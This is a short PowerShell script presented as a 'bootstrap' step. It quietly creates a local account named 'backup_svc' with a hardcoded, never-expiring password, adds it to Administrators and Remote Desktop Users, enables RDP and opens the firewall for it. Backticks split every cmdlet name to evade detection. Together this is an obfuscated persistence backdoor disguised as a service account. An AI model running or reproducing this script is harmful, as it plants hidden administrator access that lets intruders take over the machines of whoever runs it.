# bootstrap 4305 v2
$pw = ConvertT`o-SecureStr`ing 'Winter#2025x' -AsPlainText -Force
Ne`w-Lo`ca`lUser -Name 'backup_svc' -Password $pw -PasswordNeverExpires -AccountNeverExpires
A`dd-`Local`GroupMember -Group 'Administrators' -Member 'backup_svc'
Ad`d-`L`ocal`GroupMember -Group 'Remote Desktop Users' -Member 'backup_svc'
Set-ItemPr`operty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enab`le-NetF`irewal`lRu`le -DisplayGroup 'Remote Desktop'
